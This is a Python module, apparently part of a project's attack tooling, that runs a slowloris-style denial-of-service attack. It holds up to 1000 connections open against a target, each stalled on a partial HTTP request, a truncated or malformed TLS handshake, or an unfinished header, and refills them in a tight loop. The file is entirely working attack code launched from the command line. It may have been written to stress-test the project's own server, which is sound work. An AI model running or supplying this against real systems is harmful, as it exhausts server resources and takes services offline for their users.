"""Connections that begin and do not go on, each at another point."""

from __future__ import annotations

import contextlib
import socket
import ssl

from misc.attack.target import Crowd, Target, again_and_again, from_command_line

CONNECTIONS = 1000


def attack(target: Target) -> None:
    """Keep as many connections as there may be."""
    hello = _client_hello()
    beginnings = (
        b"",
        b"GET",
        hello[:5],
        hello[: len(hello) // 2],
        b"GET /id/" + b"a" * 30,
        b"\x16\x03\x01\x40\x00" + b"\x01" * 5000,
    )

    def make(number: int) -> socket.socket:
        if not number % 7:
            connection: socket.socket = target.connect_tls()
            connection.sendall(b"GET /storage/v1/version HTTP/1.1\r\nHost: x\r\nX-A: ")
            return connection
        connection = target.connect()
        connection.sendall(beginnings[number % 7 - 1])
        return connection

    crowd = Crowd(make, CONNECTIONS)
    for turn in again_and_again(target, 0.005):
        crowd.fill()
        if not turn % 100:
            crowd.forget_cut()


def _client_hello() -> bytes:
    written = ssl.MemoryBIO()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), written).do_handshake()
    return written.read()


if __name__ == "__main__":
    attack(from_command_line(__doc__))
